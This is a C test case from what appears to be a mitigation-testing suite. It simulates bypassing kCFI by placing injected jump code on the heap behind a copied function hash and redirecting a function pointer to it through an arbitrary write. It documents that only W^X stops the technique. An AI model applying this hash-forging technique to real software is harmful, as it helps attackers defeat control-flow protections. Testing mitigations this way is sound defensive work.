/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * What kcfi compares with is the word before a function: code that the attacker has brought has the right one before
 * it. What is left to stop it is that data are not executed.
 */
#include "attacks.h"

static long twice(long value)
{
	return 2 * value;
}

static long (*transform)(long value) = twice;

static NOINLINE long apply(long value)
{
	return (*attack_opaque(&transform))(value);
}

static bool benign(const struct attack *attack)
{
	return apply(4) == 8;
}

static void run(const struct attack *attack)
{
	/* nops, the hash where there is one (in the immediate of a mov), then: movabs $goal, %rax; jmp *%rax */
	struct PACKED {
		uint8_t before[16];
		uint8_t movabs[2];
		uint64_t goal;
		uint8_t jmp[2];
	} code = { { 0 }, { 0x48, 0xb8 }, 0, { 0xff, 0xe0 } };
	uintptr_t slide = attack_leaked_slide(), at;

	attack_read(code.before, attack_linked_code(twice) + slide - sizeof(code.before), sizeof(code.before));
	code.goal = attack_linked_code(attack_goal) + slide;
	at = attack_leaked_heap(&code, sizeof(code));
	if (!at)
		attack_failed(attack, "no memory");
	attack_primitive(attack);
	attack_write64(attack_linked(&transform) + slide, at + offsetof(__typeof__(code), movabs));
	apply(1);
}

ATTACK(kcfi_forged_hash, .family = "kcfi", .primitive = ARBITRARY_WRITE, .knowledge = LAYOUT_LEAKED, .stopped_by = "wx",
       .aims_at = "kcfi", .about = "code on the heap, with the hash of a function before it", .run = run,
       .benign = benign);
